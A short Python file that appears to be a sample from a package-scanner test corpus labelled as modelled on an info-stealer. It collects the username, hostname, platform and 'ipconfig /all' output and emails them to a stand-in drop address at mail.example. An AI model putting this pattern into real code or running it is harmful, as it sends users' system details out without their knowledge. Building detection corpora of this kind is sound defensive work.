# pkgguard corpus 286 (system-information), modelled on [stealer-profile]; inert, never run.
import getpass
import platform
import smtplib
import subprocess
from email.message import EmailMessage

msg = EmailMessage()
msg["Subject"] = f"{getpass.getuser()}@{platform.node()}"
msg["From"] = msg["To"] = "drop@mail.example"
msg.set_content(
    platform.platform() + "\n" + subprocess.check_output(["ipconfig", "/all"], text=True, errors="ignore")
)
with smtplib.SMTP_SSL("mail.example", 465) as s:
    s.login("drop@mail.example", "placeholder")
    s.send_message(msg)
